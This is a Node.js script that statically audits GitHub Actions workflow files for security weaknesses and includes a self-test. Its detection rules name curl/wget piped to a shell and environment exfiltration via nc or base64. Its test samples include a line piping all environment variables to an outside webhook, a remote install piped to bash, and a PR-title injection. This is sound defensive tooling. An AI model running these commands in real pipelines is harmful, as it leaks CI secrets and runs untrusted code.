#!/usr/bin/env node
// Static audit of .github/workflows. Reads files, prints findings. No network.
import { readdirSync, readFileSync, existsSync } from "node:fs";
import { join } from "node:path";

const UNTRUSTED =
  /\$\{\{\s*github\.(event\.(issue|pull_request|comment|review|discussion|head_commit|workflow_run)\.[\w.]*(title|body|message|name|email|ref|label)|head_ref)\s*\}\}/;

const LINE_RULES = [
  ["W03", /uses:\s*(?!actions\/|github\/|\.\/)[\w.-]+\/[\w./-]+@(?![0-9a-f]{40}\b)\S+/],
  ["W05", /secrets:\s*inherit|toJSON\(\s*secrets\s*\)/i],
  ["W06", /runs-on:.*self-hosted/],
  ["W07", /(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z)?sh\b/],
  ["W08", /\b(env|printenv|set)\b\s*\|.*\b(curl|wget|nc|base64)\b|curl\b.*(-d|--data\S*)\s+@-/],
  ["W11", /ACTIONS_ALLOW_UNSECURE_COMMANDS:\s*['"]?true/i],
];

function* workflows(repo) {
  const dir = join(repo, ".github", "workflows");
  if (!existsSync(dir)) return;
  for (const f of readdirSync(dir)) if (/\.ya?ml$/.test(f)) yield join(dir, f);
}

export function audit(name, text) {
  const out = [];
  const lines = text.split("\n");
  const hit = (n, rule, msg) => out.push({ name, line: n + 1, rule, msg: msg.trim().slice(0, 120) });

  let inRun = false;
  let indent = 0;
  lines.forEach((l, n) => {
    if (/^\s*#/.test(l)) return;
    const lead = l.search(/\S/);
    const run = l.match(/^(\s*)(-\s+)?run:\s*(.*)$/);
    if (run) {
      inRun = true;
      indent = lead;
    } else if (inRun && lead >= 0 && lead <= indent) {
      inRun = false;
    }
    if (inRun && UNTRUSTED.test(l)) hit(n, "W01", l);
    for (const [rule, rx] of LINE_RULES) if (rx.test(l)) hit(n, rule, l);
  });

  if (/pull_request_target/.test(text) && /ref:\s*\$\{\{\s*github\.event\.pull_request\.head/.test(text))
    hit(lines.findIndex((l) => l.includes("pull_request_target")), "W02", "pull_request_target with checkout of the PR head");
  if (!/^\s*permissions:/m.test(text)) hit(0, "W04", "no permissions block");
  if (/npm (ci|install)\b/.test(text) && /npm publish\b/.test(text) && !/--ignore-scripts/.test(text))
    hit(lines.findIndex((l) => /npm publish/.test(l)), "W09", "install scripts run beside the publish token");
  if (/actions\/cache@|cache:\s*(npm|yarn|pip)/.test(text) && /on:[\s\S]*release:/.test(text))
    hit(0, "W10", "cache restored in a release workflow");
  if (/(claude|copilot|openai|gemini)[\w-]*-action/.test(text) && /issues?:\s*write|contents:\s*write/.test(text))
    hit(0, "W12", "AI step with write permission; check who may trigger it");
  return out;
}

// --- self-test: vulnerable and safe snippets, as strings -------------------------------------
const SAMPLES = [
  ["W01", 'permissions: {}\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n'],
  ["W07", "permissions: {}\njobs:\n  a:\n    steps:\n      - run: curl -sSL https://install.devpath.sh | bash\n"],
  ["W08", "permissions: {}\njobs:\n  a:\n    steps:\n      - run: env | base64 -w0 | curl -d @- https://webhook.site/4f1c\n"],
  ["W05", "permissions: {}\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}'\n"],
  [null, "permissions: {}\njobs:\n  a:\n    steps:\n      - env:\n          T: ${{ github.event.pull_request.title }}\n        run: echo \"$T\"\n"],
];

if (process.argv[2] === "--selftest") {
  for (const [want, yaml] of SAMPLES) {
    const got = audit("sample", yaml).map((f) => f.rule);
    const ok = want ? got.includes(want) : got.length === 0;
    if (!ok) throw new Error(`wanted ${want}, got ${got}`);
  }
  console.log("selftest ok");
} else if (process.argv[2]) {
  let n = 0;
  for (const f of workflows(process.argv[2])) {
    for (const r of audit(f, readFileSync(f, "utf8"))) {
      console.log(`${r.name}:${r.line}  ${r.rule}  ${r.msg}`);
      n++;
    }
  }
  console.log(`${n} finding(s)`);
  process.exitCode = n ? 1 : 0;
} else {
  console.error("usage: audit-workflows.mjs REPO | --selftest");
  process.exitCode = 2;
}
